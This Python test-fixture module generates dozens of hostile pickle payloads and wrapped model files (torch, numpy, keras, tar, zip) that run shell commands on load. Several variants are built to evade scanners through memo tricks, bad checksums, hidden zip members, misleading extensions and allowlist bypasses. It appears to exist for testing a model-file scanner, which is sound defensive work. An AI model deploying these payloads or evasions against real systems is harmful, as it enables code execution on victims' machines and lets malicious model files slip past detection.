"""Files as an attacker writes them. Each would run ``touch MARKER`` in some way if it were loaded, and none ever is, but where a test says so."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from hostile_pickles import call, get_global, put, text


def attacks(command: str) -> dict[str, tuple[str, bytes]]:
    """By what it tries: the name of a file and its bytes. ``command`` is for a shell."""
    plain = _pickles(command)
    found = {name: ("model.pkl", data) for name, data in plain.items()}
    system = plain["os.system"]
    found |= {name: (file, make(system)) for name, (file, make) in WRAPPINGS.items()}
    found |= {
        "keras lambda": ("model.keras", keras_archive(LAMBDA)),
        "keras module": ("model.keras", keras_archive(OS_SYSTEM)),
    }
    return found


def _pickles(command: str) -> dict[str, bytes]:
    one = text(command)
    python = f"__import__('os').system({command!r})"
    system = call("os", "system", one)
    importing = call("builtins", "__import__", text("os"))
    return {
        "os.system": b"\x80\x04" + system + b".",
        "posix.system": b"\x80\x04" + call("posix", "system", one) + b".",
        "nt.system": b"\x80\x04" + call("nt", "system", one) + b".",
        "protocol 0": f"cos\nsystem\n(V{command}\ntR.".encode(),
        "protocol 0 inst": f"(V{command}\nios\nsystem\n.".encode(),
        "protocol 1 obj": b"(cos\nsystem\n" + text(command, binary=True) + b"o.",
        "python 2 names": b"\x80\x02c__builtin__\neval\n" + text(python, binary=True) + b"\x85R.",
        "builtins.eval": b"\x80\x04" + call("builtins", "eval", text(python)) + b".",
        "builtins.exec": b"\x80\x04" + call("builtins", "exec", text(python)) + b".",
        "builtins.__import__": b"\x80\x04" + importing + b".",
        "getattr of an import": b"\x80\x04"
        + get_global("builtins", "getattr")
        + importing
        + text("system")
        + b"\x86R"
        + one
        + b"\x85R.",
        "importlib": b"\x80\x04" + call("importlib", "import_module", text("antigravity")) + b".",
        "runpy": b"\x80\x04" + call("runpy", "_run_code", text(python), b"}") + b".",
        "pip main": b"\x80\x04" + call("pip", "main", b"]" + text("install") + b"a" + text("evil") + b"a") + b".",
        "pip._internal main": b"\x80\x04"
        + call("pip._internal.cli.main", "main", b"]" + text("download") + b"a")
        + b".",
        "subprocess": b"\x80\x04" + call("subprocess", "check_output", b"]" + text("touch") + b"a") + b".",
        "_posixsubprocess": b"\x80\x04" + call("_posixsubprocess", "fork_exec", b"]") + b".",
        "pty.spawn": b"\x80\x04" + call("pty", "spawn", one) + b".",
        "functools.partial": b"\x80\x04" + call("functools", "partial", get_global("os", "system"), one) + b")R.",
        "functools.reduce": b"\x80\x04" + call("functools", "reduce", get_global("os", "execv"), b"]") + b".",
        "operator.methodcaller": b"\x80\x04"
        + call("operator", "methodcaller", text("system"), one)
        + importing
        + b"\x85R.",
        "ctypes": b"\x80\x04" + call("ctypes", "CDLL", text("libc.so.6")) + b".",
        "numpy ufunc by name": b"\x80\x04"
        + call("numpy._core", "_ufunc_reconstruct", text("os"), text("system"))
        + one
        + b"\x85R.",
        "numpy runstring": b"\x80\x04" + call("numpy.testing._private.utils", "runstring", text(python), b"}") + b".",
        "pandas eval": b"\x80\x04" + call("pandas", "eval", text("@__import__('os')")) + b".",
        "pandas read_pickle": b"\x80\x04" + call("pandas", "read_pickle", text("http://x/evil.pkl")) + b".",
        "joblib.load": b"\x80\x04" + call("joblib", "load", text("evil.pkl")) + b".",
        "torch.hub": b"\x80\x04" + call("torch.hub", "load", text("evil/repository"), text("model")) + b".",
        "code.interact": b"\x80\x04" + call("code", "InteractiveInterpreter", b"}") + b".",
        "timeit": b"\x80\x04" + call("timeit", "timeit", text(python)) + b".",
        "bdb": b"\x80\x04" + get_global("bdb", "Bdb.run") + b")\x81" + text(python) + b"\x86R.",
        "logging config": b"\x80\x04" + call("logging.config", "dictConfig", b"}") + b".",
        "shutil.rmtree": b"\x80\x04" + call("shutil", "rmtree", text("/nowhere")) + b".",
        "builtins.open": b"\x80\x04" + call("builtins", "open", text("marker"), text("w")) + b".",
        "_io.open": b"\x80\x04" + call("_io", "open", text("marker"), text("w")) + b".",
        "pathlib write": b"\x80\x04"
        + call("pathlib", "Path.write_text", call("pathlib", "PosixPath", text("marker")), text("x"))
        + b".",
        "webbrowser": b"\x80\x04" + call("webbrowser", "open", text("http://x")) + b".",
        "copyreg extension": b"\x80\x04"
        + call("copyreg", "add_extension", text("os"), text("system"), b"M\xf0\x00")
        + b"0\x82\xf0"
        + one
        + b"\x85R.",
        "sys.modules": b"\x80\x04" + get_global("sys", "modules") + b".",
        "dotted through an allowed module": b"\x80\x04"
        + get_global("collections", "_sys.modules.get")
        + text("os")
        + b"\x85R.",
        "module of an allowed module": b"\x80\x04" + get_global("sklearn.utils", "os") + b".",
        "names from the memo": b"\x80\x04"
        + put(text("system"), 7)
        + b"0"
        + put(text("os"), 1)
        + b"0"
        + b"h\x01h\x07\x93"
        + one
        + b"\x85R.",
        "memo overwritten": b"\x80\x04"
        + put(text("collections"), 3)
        + b"0"
        + put(text("os"), 3)
        + b"0h\x03"
        + text("system")
        + b"\x93"
        + one
        + b"\x85R.",
        "memoize after put": b"\x80\x04"
        + text("a")
        + b"q\x050"
        + text("os")
        + b"\x940h\x01"
        + text("system")
        + b"\x93"
        + one
        + b"\x85R.",
        "names in a duplicate": b"\x80\x04" + text("os") + text("system") + b"20\x93" + one + b"\x85R.",
        "names out of a pop": b"\x80\x04" + text("os") + text("system") + b"(K\x01K\x021" + b"\x93" + one + b"\x85R.",
        "names as bytes strings": b"\x80\x04U\x02osU\x06system\x93" + one + b"\x85R.",
        "name made by a call": b"\x80\x04"
        + text("os")
        + call("builtins", "str", text("system"))
        + b"\x93"
        + one
        + b"\x85R.",
        "a pickle in a pickle": b"\x80\x04" + call("pickle", "loads", _bytes(b"\x80\x04" + system + b".")) + b".",
        "a second pickle behind": pickle.dumps([1, 2]) + b"\x80\x04" + system + b".",
        "breaks off after the call": b"\x80\x04" + system + b"\xff\xff",
        "no stop": b"\x80\x04" + system,
        "stop before, call behind": b"\x80\x04N.\x80\x04" + system + b"0N.",
        "ends in a lying frame": b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\x7f" + system + b".",
        "sets an allowed class": b"\x80\x04"
        + get_global("sklearn.base", "BaseEstimator")
        + b"N}"
        + text("__setstate__")
        + get_global("os", "system")
        + b"s\x86b.",
        "calls what it made": b"\x80\x04" + call("collections", "OrderedDict") + one + b"\x85R.",
    }


def _bytes(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def torch_zip(data: bytes, name: str = "archive/data.pkl", method: int = zipfile.ZIP_STORED) -> bytes:
    """As ``torch.save`` lays it out."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        archive.writestr(name, data)
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/data/0", bytes(64))
    return buffer.getvalue()


def torch_legacy(data: bytes) -> bytes:
    """As torch wrote before 1.6: five pickles, then storages."""
    head = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2)
    return head + data + pickle.dumps(["0"], 2) + struct.pack("<q", 4) + bytes(16)


def npy(data: bytes, descr: str = "|O") -> bytes:
    """An array of objects as ``numpy.save`` writes it."""
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': (1,), }}"
    header += " " * (-(len(header) + 11) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + data


def in_zip(name: str, data: bytes, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        archive.writestr(name, data)
    return buffer.getvalue()


def in_tar(name: str, data: bytes, mode: str = "w") -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:  # type: ignore[call-overload]
        member = tarfile.TarInfo(name)
        member.size = len(data)
        archive.addfile(member, io.BytesIO(data))
    return buffer.getvalue()


def wrong_crc(data: bytes) -> bytes:
    """A zip whose check sums lie: Python's reader stops there, torch's does not look."""
    archive = bytearray(torch_zip(data))
    place = 0
    while (place := archive.find(b"PK\x01\x02", place)) >= 0:
        archive[place + 16 : place + 20] = b"\xde\xad\xbe\xef"
        place += 4
    return bytes(archive)


def encrypted_flag(data: bytes) -> bytes:
    """A zip whose directory says that its members are encrypted, which they are not."""
    archive = bytearray(torch_zip(data))
    place = 0
    while (place := archive.find(b"PK\x01\x02", place)) >= 0:
        archive[place + 8] |= 1
        place += 4
    return bytes(archive)


def two_names(data: bytes) -> bytes:
    """A zip whose member is called otherwise in the directory than before its bytes."""
    archive = torch_zip(data, name="archive/data.pkl")
    at = archive.rfind(b"archive/data.pkl")
    return archive[:at] + b"archive/data.txt" + archive[at + 16 :]


def hidden_member(data: bytes) -> bytes:
    """A zip with a member that its directory does not name: readers of streams see it, readers of directories do not."""
    hidden = in_zip("archive/data.pkl", data, zipfile.ZIP_STORED)
    hidden = hidden[: hidden.find(b"PK\x01\x02")]
    buffer = io.BytesIO(hidden)
    buffer.seek(len(hidden))
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("archive/version", "3\n")
    return buffer.getvalue()


def nested(data: bytes, depth: int) -> bytes:
    for level in range(depth):
        data = in_zip(f"level{level}.zip", data, zipfile.ZIP_STORED)
    return data


WRAPPINGS: dict[str, tuple[str, Callable[[bytes], bytes]]] = {
    "wrong extension json": ("config.json", bytes),
    "wrong extension safetensors": ("model.safetensors", bytes),
    "wrong extension bin": ("pytorch_model.bin", bytes),
    "no extension": ("model", bytes),
    "gzip": ("model.pkl.gz", gzip.compress),
    "zlib as joblib": ("model.joblib", zlib.compress),
    "bz2 as joblib": ("model.joblib", bz2.compress),
    "xz as joblib": ("model.joblib", lzma.compress),
    "lzma as joblib": ("model.joblib", lambda data: lzma.compress(data, lzma.FORMAT_ALONE)),
    "torch zip": ("model.pt", torch_zip),
    "torch zip, deflated": ("model.pt", lambda data: torch_zip(data, method=zipfile.ZIP_DEFLATED)),
    "torch zip, renamed": ("model.pt", lambda data: torch_zip(data, "archive/weights.txt")),
    "torch zip, wrong crc": ("model.pt", wrong_crc),
    "torch zip, encrypted flag": ("model.pt", encrypted_flag),
    "torch zip, two names": ("model.pt", two_names),
    "torch zip, hidden member": ("model.pt", hidden_member),
    "torch zip, something before": ("model.pt", lambda data: b"#!/bin/sh\n" + torch_zip(data)),
    "torch zip as json": ("tokenizer.json", torch_zip),
    "torch legacy": ("model.pt", torch_legacy),
    "numpy objects": ("array.npy", npy),
    "numpy objects in npz": ("arrays.npz", lambda data: in_zip("a.npy", npy(data))),
    "numpy objects, other name": ("arrays.npz", lambda data: in_zip("a.txt", npy(data))),
    "tar": ("model.tar", lambda data: in_tar("model.pkl", data)),
    "tar.gz": ("model.tar.gz", lambda data: in_tar("model.pkl", data, "w:gz")),
    "tar.gz, other names": ("model.bin", lambda data: in_tar("weights.txt", data, "w:gz")),
    "zip in a zip": ("model.zip", lambda data: nested(in_zip("model.pkl", data), 2)),
    "gzip in a zip": ("model.zip", lambda data: in_zip("x", gzip.compress(data))),
}

LAMBDA = {
    "class_name": "Sequential",
    "module": "keras",
    "config": {
        "layers": [
            {
                "class_name": "Lambda",
                "module": "keras.layers",
                "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEAAAA=", "defaults": None}}},
            }
        ]
    },
}
OS_SYSTEM = {"class_name": "function", "module": "os", "config": "system", "registered_name": "function"}


def keras_archive(config: object) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("metadata.json", '{"keras_version": "3.12.0"}')
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(64))
    return buffer.getvalue()


def write_all(folder: Path, command: str) -> dict[str, Path]:
    """Each attack in a folder of its own."""
    placed = {}
    for number, (name, (file, data)) in enumerate(attacks(command).items()):
        place = folder / f"{number:03}"
        place.mkdir(parents=True)
        (place / file).write_bytes(data)
        placed[name] = place / file
    return placed
